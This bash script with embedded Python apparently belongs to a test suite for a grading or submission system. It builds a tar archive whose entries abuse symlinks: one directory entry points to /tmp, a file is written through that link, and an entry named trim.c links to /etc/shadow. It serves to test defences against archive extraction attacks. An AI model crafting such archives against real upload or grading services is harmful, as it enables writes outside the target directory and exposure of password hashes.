#!/usr/bin/env bash
# make.sh OUTDIR: writes the tar-symlink-m1 submission into OUTDIR (see ../README).
set -eu
. "$(dirname "$0")/../lib.sh"
OUT=$1
F=phase1-single/fault.c
mkdir -p "$OUT"
starter $F > "$OUT/fault.c"
python3 - "$OUT/fault.c" "$OUT/submission.tar" <<'PY'
import sys, tarfile, io
data = open(sys.argv[1], "rb").read()
with tarfile.open(sys.argv[2], "w") as t:
    i = tarfile.TarInfo("phase1-single"); i.type = tarfile.SYMTYPE; i.linkname = "/tmp/h6-tarlink"
    t.addfile(i)
    i = tarfile.TarInfo("phase1-single/fault.c"); i.size = len(data)
    t.addfile(i, io.BytesIO(data))
    i = tarfile.TarInfo("trim.c"); i.type = tarfile.SYMTYPE; i.linkname = "/etc/shadow"
    t.addfile(i)
PY
rm "$OUT/fault.c"
